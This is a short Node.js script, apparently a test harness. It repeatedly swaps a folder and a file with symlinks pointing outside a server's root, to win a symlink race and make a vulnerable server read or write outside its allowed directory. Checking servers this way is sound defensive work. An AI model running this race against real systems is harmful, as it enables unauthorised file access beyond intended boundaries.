// Exchanges a folder and a file with links to outside in a loop until it is killed.
// argv: the root with `flip` and `file` in it; the folder outside; a file to count flips in
import { openSync, renameSync, rmSync, symlinkSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const [root, outside, counter] = process.argv.slice(2);
const out = openSync(counter, 'w');
// a name without folders can be exchanged twice as often as a path
process.chdir(root);
let junk = 0;

function rename(from, to) {
  for (let attempt = 0; attempt < 100; attempt++) {
    if (tryRename(from, to)) return;
    // the server created a folder or a file with this name in the gap: remove it
    tryRename(to, `junk-${junk++}`);
  }
  throw new Error(`${from} does not become ${to}`);
}

function tryRename(from, to) {
  try {
    renameSync(from, to);
    return true;
  } catch {
    // the caller retries
    return false;
  }
}

function link(name, target) {
  for (;;) {
    rmSync(name, { force: true, recursive: true });
    try {
      symlinkSync(target, name);
      return;
    } catch (error) {
      // a vulnerable server writes there in the meantime
      if (error.code !== 'EEXIST') throw error;
    }
  }
}

for (let flips = 0; ; flips += 2) {
  if (flips % 100 === 0) {
    link('link', outside);
    link('filelink', join(outside, 'read.txt'));
    writeSync(out, String(flips).padStart(12), 0);
  }
  rename('flip', 'parked');
  rename('link', 'flip');
  rename('file', 'fileparked');
  rename('filelink', 'file');
  rename('flip', 'link');
  rename('parked', 'flip');
  rename('file', 'filelink');
  rename('fileparked', 'file');
}
